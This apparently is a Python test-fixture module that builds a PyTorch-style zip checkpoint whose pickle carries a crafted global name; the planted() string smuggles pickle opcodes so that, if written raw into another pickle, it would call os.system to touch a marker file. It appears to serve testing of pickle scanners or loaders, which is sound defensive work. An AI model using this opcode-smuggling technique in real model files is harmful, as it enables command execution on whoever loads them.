"""Pickles whose names hold opcodes: written as they are into another pickle, they would run a command."""

from __future__ import annotations

import struct
import zipfile
from pathlib import Path

__all__ = ["TENSOR", "archive", "planted", "stack_global", "text", "with_planted_name"]


def text(value: str) -> bytes:
    data = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(data)) + data


def stack_global(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


def planted(marker: Path) -> str:
    """Return a name that, written into a GLOBAL opcode as it is, calls os.system when the pickle is loaded."""
    assert "." not in str(marker)
    return f"Int8DType\n0cposix\nsystem\n(Vtouch {marker}\ntR0VDType"


def archive(path: Path, pickled: bytes) -> Path:
    with zipfile.ZipFile(path, "w") as target:
        target.writestr("x/data.pkl", pickled)
        target.writestr("x/byteorder", b"little")
        target.writestr("x/data/0", bytes(64))
    return path


TENSOR = (
    b"ctorch._utils\n_rebuild_tensor_v2\n((X\x07\0\0\0storagectorch\nFloatStorage\nX\x01\0\0\x000X\x03\0\0\0cpuK\x10tQ"
    b"K\x00K\x04\x85K\x01\x85\x89ccollections\nOrderedDict\n)RtR"
)


def with_planted_name(path: Path, marker: Path) -> Path:
    name = stack_global("numpy.dtypes", planted(marker))
    return archive(path, b"\x80\x04}(X\x05\0\0\0model}X\x01\0\0\0w" + TENSOR + b"sX\x04\0\0\0meta" + name + b"u.")
